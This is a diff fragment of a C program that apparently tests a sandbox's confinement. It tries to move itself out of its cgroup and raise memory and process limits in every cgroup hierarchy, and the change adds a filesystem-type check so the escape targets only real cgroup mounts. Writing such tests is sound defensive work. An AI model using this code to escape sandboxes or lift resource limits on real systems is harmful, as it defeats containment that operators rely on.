@@ -1,7 +1,9 @@
 /* Leaves its cgroup, and changes the limits of it and of those above it, in every hierarchy. */
 #include "attack.h"
 #include <fcntl.h>
+#include <linux/magic.h>
 #include <sys/stat.h>
+#include <sys/vfs.h>
 
 static const char *const changes[][2] = {
     {"cgroup.procs", "0"}, {"tasks", "0"}, {"memory.max", "max"}, {"memory.limit_in_bytes", "-1"}, {"pids.max", "max"},
@@ -46,9 +48,9 @@ int main(void)
         const char *const mounts[] = {"/sys/fs/cgroup", "/sys/fs/cgroup/unified", "/sys/fs/cgroup/%s"};
         for (size_t i = 0; i < 3; i++) {
             int mount = snprintf(path, sizeof path, mounts[i], controllers);
-            struct stat st;
+            struct statfs st;
             snprintf(path + mount, sizeof path - mount, "%s", strcmp(group, "/") == 0 ? "" : group);
-            if (stat(path, &st) == 0) {
+            if (statfs(path, &st) == 0 && (st.f_type == CGROUP_SUPER_MAGIC || st.f_type == CGROUP2_SUPER_MAGIC)) {
                 groups++;
                 climb(path, mount);
             }
